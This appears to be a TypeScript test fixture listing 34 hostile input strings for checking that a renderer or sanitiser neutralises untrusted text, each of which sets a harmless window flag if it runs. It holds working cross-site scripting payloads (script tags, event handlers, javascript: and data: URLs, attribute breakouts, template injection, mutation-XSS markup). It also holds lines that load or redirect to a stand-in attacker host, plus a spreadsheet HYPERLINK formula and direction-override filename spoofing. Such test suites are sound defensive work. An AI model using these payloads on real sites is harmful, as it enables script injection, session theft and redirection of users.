/**
 * 34 texts as strangers write them: script, event handlers, URL schemes, templates, markup that closes the page's own, and
 * signs that change how text reads. Each that runs sets `window.__pwned`.
 */
const run = 'window.__pwned=1'

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `</pre></article><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${run}"></style></mglyph></math>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="https://evil.example/"></object>`,
  `<embed src="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus="${run}">x</button></form>`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<a href="java${'script'}:${run}">link</a>`,
  `java${'script'}:${run}`,
  `data:text/html,<script>${run}</script>`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `=HYPERLINK("https://evil.example/","x") \u202Egnp.exe\u202C \u0000\u0007 &lt;script&gt; &#60;script&#62;`,
  `\r\n<script>${run}</script>\u2028${run}//\u2029\uFEFF\uD800`
]
